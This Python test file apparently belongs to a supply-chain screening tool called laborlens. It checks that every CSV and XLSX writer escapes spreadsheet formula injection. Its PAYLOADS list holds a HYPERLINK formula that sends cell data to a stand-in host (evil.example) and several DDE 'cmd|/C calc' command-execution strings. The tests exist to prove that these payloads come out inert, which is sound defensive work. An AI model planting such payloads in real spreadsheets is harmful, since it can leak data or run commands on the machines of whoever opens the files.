"""No formula reaches a CSV or XLSX file: every writer, fed injection payloads.

The writers covered: the screening CSV (stream and file) and XLSX (Results, Findings, Lists
sheets), and the dossier's exhibits.xlsx. A static check makes sure any new module that writes
CSV or XLSX goes through ``laborlens.core.cells`` too.
"""

from __future__ import annotations

import csv
import io
import re
import sys
import zipfile
from datetime import date
from pathlib import Path

import pytest

from laborlens.adapters.io.writers import ReportMeta, write_results
from laborlens.core.cells import is_formula_like
from laborlens.core.model import Finding, Record, RegimeOutcome, ScreenResult

SRC = Path(__file__).resolve().parents[2] / "src" / "laborlens"
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
)
AS_OF = date(2026, 1, 1)


def _pairs() -> list[tuple[ScreenResult, Record]]:
    out = []
    for i, payload in enumerate(PAYLOADS, start=1):
        finding = Finding(
            kind="listed_entity",
            list="user_list",
            entry_id=payload,
            entry_name=payload,
            matched_name=payload,
            score=0.9,
            match="strong",
            why=payload,
        )
        result = ScreenResult(
            row=i,
            id=payload,
            risk="high",
            findings=(finding,),
            regimes=(RegimeOutcome("us_uflpa", "presumption"),),
            extra=((payload, payload), ("spend", "-12.5")),
            country=payload,
            as_of=AS_OF,
        )
        out.append((result, Record(row=i, id=payload, name=payload, source=payload)))
    return out


META = ReportMeta(as_of=AS_OF, inputs=PAYLOADS, extra_columns=(PAYLOADS[0], "spend"))


def _assert_inert(cells: list[object], where: str) -> None:
    for value in cells:
        if isinstance(value, str):
            assert not is_formula_like(value), f"{where}: {value!r}"


def test_screen_csv_stream_and_file(tmp_path: Path) -> None:
    out = io.StringIO()
    write_results(_pairs(), "csv", out, META)
    path = tmp_path / "out.csv"
    write_results(_pairs(), "csv", path, META)
    for text in (out.getvalue(), path.read_text(encoding="utf-8-sig")):
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) == 1 + len(PAYLOADS)
        for row in rows:
            _assert_inert(list(row), "csv")
        assert rows[1][-1] == "-12.5"  # a negative number stays a number
        assert "'-2+3+cmd|' /C calc'!A0" in rows[4]


def _xlsx_cells(path: Path) -> list[tuple[str, object, str]]:
    from openpyxl import load_workbook

    book = load_workbook(path)  # not data_only: a formula would come back as a formula
    return [
        (ws.title, cell.value, cell.data_type)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
    ]


def _assert_xlsx_inert(path: Path) -> None:
    cells = _xlsx_cells(path)
    assert cells
    for sheet, value, data_type in cells:
        assert data_type != "f", f"{path.name}/{sheet}: formula {value!r}"
        if isinstance(value, str):
            assert not is_formula_like(value), f"{path.name}/{sheet}: {value!r}"
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_screen_xlsx_every_sheet(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_results(_pairs(), "xlsx", path, META)
    _assert_xlsx_inert(path)
    values = [v for _, v, _ in _xlsx_cells(path)]
    assert "'+cmd|' /C calc'!A0" in values
    assert "-12.5" in values


def test_dossier_exhibit_index(tmp_path: Path) -> None:
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "core" / "evidence"))
    import example_case as ex

    from laborlens.ops.evidence import EvidenceService
    from laborlens.settings import Settings

    with EvidenceService(Settings(data_dir=tmp_path / "store", user="analyst")) as svc:
        ex.open_case(svc)
        row = ex.plan(("applicability_review",))[0]
        svc.register(
            ex.DOCUMENTS / row["file"],
            row["type"],
            case_id=ex.CASE_ID,
            nodes=tuple(x for x in row["nodes"].split(";") if x),
            title=PAYLOADS[0],
            issuer=PAYLOADS[1],
            producer=PAYLOADS[3],
            unit=PAYLOADS[2],
        )
        out = tmp_path / "dossier"
        svc.build_dossier(ex.CASE_ID, "applicability_review", out, as_of=ex.AS_OF)
    _assert_xlsx_inert(out / "exhibits.xlsx")
    values = [v for _, v, _ in _xlsx_cells(out / "exhibits.xlsx")]
    assert "'" + PAYLOADS[0] in values


_WRITES_SPREADSHEET = re.compile(r"csv\.(?:writer|DictWriter)\(|\bWorkbook\(")


def test_every_module_that_writes_csv_or_xlsx_uses_the_cell_guard() -> None:
    """A new CSV/XLSX writer must pass its cells through laborlens.core.cells."""
    writers = [
        p for p in SRC.rglob("*.py") if _WRITES_SPREADSHEET.search(p.read_text(encoding="utf-8"))
    ]
    assert {p.name for p in writers} >= {"writers.py", "xlsx.py"}  # xlsx.py: the dossier's
    for path in writers:
        text = path.read_text(encoding="utf-8")
        assert "laborlens.core.cells import" in text, f"{path}: writes CSV/XLSX unguarded"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cli_csv_output_is_inert(tmp_path: Path, payload: str) -> None:
    from typer.testing import CliRunner

    from laborlens.interfaces.cli.main import app

    src = tmp_path / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["name", "notes"], [payload, payload], ["Foo Ltd", "-3"]])
    target = tmp_path / "out.csv"
    result = CliRunner().invoke(app, ["screen", str(src), "-o", str(target), "-q"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert len(rows) == 3
    for row in rows:
        _assert_inert(list(row), "cli csv")
    assert rows[2][-1] == "-3"
